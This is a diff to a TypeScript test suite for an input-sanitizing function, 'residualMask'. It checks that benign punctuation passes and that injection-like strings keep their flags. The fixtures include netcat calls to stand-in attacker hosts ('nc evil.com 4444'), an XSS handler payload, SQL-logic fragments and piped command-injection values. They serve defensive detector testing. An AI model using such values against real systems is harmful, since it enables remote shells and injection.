@@ -10,7 +10,7 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     'I <3 it',
     'Tom & Jerry',
     'PR #4211 in C# and F#, #release',
-    'plans: $9.99 | $19.99 | team is $49 (billed yearly)',
+    'plans: $9.99 | $19.99 | team is $49 (billed yearly), $1,200 | ok',
     'up 12% since Tue/Thu, 2+2 and C++',
     'see https://example.org/docs/page?id=5#top for more',
     "it's late; see you :) tomorrow ;)",
@@ -20,7 +20,6 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     '"Bring a friend, if you have one." -- Winston Churchill',
     'I replied, "They used to say the same thing about drugs."',
     "In Oz, never say 'krizzle kroo' to a Woozy.",
-    'Is 5 > 3 or 9 < 12 here?',
     '> quoted reply from before',
     'The fix is in `src/app.ts`: we were not awaiting it',
     'the flaky test is `user.spec.ts` (timeout after 5s), see `db.json`',
@@ -197,6 +196,17 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     ['<nick> nc e.vil 4444', M.LT],
     ['<nick>x', M.LT],
     ['<x onclick=alert(1)>', M.LT],
+    // a comparison or a heart after SQL logic is a test
+    ['1 or x < 4', M.LT],
+    ['1 and x > 4 ok', M.GT],
+    ['1) or not x < 3', M.LT],
+    ['1 or `a b` < 3', M.LT],
+    // a command after a "price": `$5` is the shell's fifth argument, empty
+    ['x | $5 id', M.PIPE],
+    ['| $5 nc evil.com 4444', M.PIPE | M.DOLLAR],
+    ['a | $9.99 ping 8.8.8.8', M.PIPE],
+    // (read by the SQL rules, which tell a chain of numbers in prose: sqli/prose.ts)
+    ['Is 5 > 3 or 9 < 12 here?', M.LT],
   ] as [string, number][])('keeps %s', (s, bit) => {
     expect(residualMask(s) & bit).toBe(bit)
   })
